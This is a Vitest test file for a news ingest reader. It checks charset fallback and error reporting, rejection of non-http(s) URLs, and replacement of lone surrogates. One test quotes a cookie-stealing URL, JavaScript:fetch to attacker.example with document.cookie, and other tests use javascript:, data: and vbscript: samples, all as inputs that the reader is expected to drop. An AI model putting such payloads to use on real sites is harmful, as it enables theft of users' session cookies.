import { expect, test } from 'vitest'
import { readBytes, type ReadResult } from '../../src/ingest/index.js'
import { input } from './helpers.js'

function only(results: ReadResult[]) {
  const [result] = results
  if (!result?.ok) throw new Error(`expected an article, got ${result?.error.message}`)
  return result.article
}
const codes = (article: { diagnostics?: readonly { code: string }[] }) => (article.diagnostics ?? []).map((d) => d.code)

// Issue 14, item 10: an ASCII page declaring utf-16 was decoded as UTF-16 gibberish, exit 0.

test('issue 14: <meta charset="utf-16"> on an ASCII page is read as UTF-8 (the WHATWG rule), and said so', () => {
  const article = only(readBytes(input('utf16-meta.html'), 'accord.html'))
  expect(article.text).toBe(
    'Chile and Peru sign a fisheries accord\n\nChile and Peru signed a fisheries accord in Lima on Thursday, officials said.',
  )
  expect(codes(article)).toEqual(['encoding.overruled'])
})

test('issue 14: a utf-16 declaration on bytes that are not UTF-8 either is refused, naming the byte', () => {
  const page = Buffer.concat([Buffer.from('<meta charset="UTF-16"><p>Caf'), Buffer.from([0xe9]), Buffer.from('</p>')])
  const [result] = readBytes(page, 'cafe.html')
  expect(result?.ok === false && [result.error.code, result.error.message]).toEqual([
    'input.encoding',
    'Cannot read "cafe.html": invalid UTF-8 byte 0xE9 at offset 29',
  ])
})

test('issue 14: bytes a declared charset cannot decode are reported, not silently replaced', () => {
  const page = Buffer.concat([
    Buffer.from('<meta charset="shift_jis"><p>Tokyo talks '),
    Buffer.from([0x81, 0x20]),
    Buffer.from('.</p>'),
  ])
  const article = only(readBytes(page, 'tokyo.html'))
  expect(article.text).toContain('\uFFFD')
  expect(article.diagnostics?.find((d) => d.code === 'encoding.undecodable')?.message).toBe(
    '1 byte sequence of "tokyo.html" are not valid shift_jis and became U+FFFD',
  )
})

// Issue 14, item 11: javascript: URLs reached the store and GDELT SOURCEURL, CSV and PLOVER exports.

test('issue 14: javascript: in a canonical link and og:url is dropped and reported', () => {
  const article = only(readBytes(input('javascript-url.html'), 'kenya.html'))
  expect(article.url).toBeUndefined()
  expect(article.diagnostics?.map((d) => d.message)).toEqual([
    `Dropped the URL "JavaScript:fetch('//attacker.example/'+document.cookie)": only absolute http and https URLs are kept`,
  ])
})

test('issue 14: a JSONL url and a feed link that are not http(s) are dropped and reported; http(s) ones kept', () => {
  const lines = [
    '{"text":"One.","url":"javascript:alert(1)"}',
    '{"text":"Two.","url":"data:text/html,<script>x</script>"}',
    '{"text":"Three.","url":"/relative/path"}',
    '{"text":"Four.","url":"https://news.example/four"}',
  ].join('\n')
  const articles = readBytes(Buffer.from(lines), 'dump.jsonl').map((r) => (r.ok ? r.article : undefined))
  expect(articles.map((a) => a?.url)).toEqual([undefined, undefined, undefined, 'https://news.example/four'])
  expect(articles.map((a) => codes(a ?? {}))).toEqual([['url.dropped'], ['url.dropped'], ['url.dropped'], []])
  const feed =
    '<rss><channel><item><title>T</title><link>vbscript:msgbox(1)</link><description>Body.</description></item></channel></rss>'
  const item = only(readBytes(Buffer.from(feed), 'wire.xml'))
  expect([item.url, codes(item)]).toEqual([undefined, ['url.dropped']])
})

// Issue 14, item 13: "\ud800" in JSONL was stored as invalid UTF-8 that other SQLite clients cannot read.

test('issue 14: lone surrogates in JSONL text, title and source become U+FFFD, reported at the reader', () => {
  const [first, second] = readBytes(input('lone-surrogate.jsonl'), 'dump.jsonl').map((r) =>
    r.ok ? r.article : undefined,
  )
  expect(first?.text).toBe('Ghana and Togo agreed to reopen a border crossing \uFFFD on Friday.')
  expect(first?.title).toBe('Border \uFFFD reopens')
  expect(first?.source.name).toBe('Wire \uFFFD')
  expect(Buffer.from(first?.text ?? '', 'utf8').toString('utf8')).toBe(first?.text) // round-trips through UTF-8
  expect(first?.diagnostics?.map((d) => d.message)).toEqual([
    'Replaced 1 lone surrogate in the text with U+FFFD (not valid Unicode)',
    'Replaced 1 lone surrogate in the title with U+FFFD (not valid Unicode)',
    'Replaced 1 lone surrogate in the source with U+FFFD (not valid Unicode)',
  ])
  expect(second?.diagnostics).toBeUndefined()
})

test('issue 14: a surrogate pair written as two escapes is a valid character and is kept', () => {
  const article = only(readBytes(Buffer.from('{"text":"Flag \\ud83c\\uddf5\\ud83c\\uddea of Peru."}'), 'flag.jsonl'))
  expect(article.text).toBe('Flag 🇵🇪 of Peru.')
  expect(article.diagnostics).toBeUndefined()
})
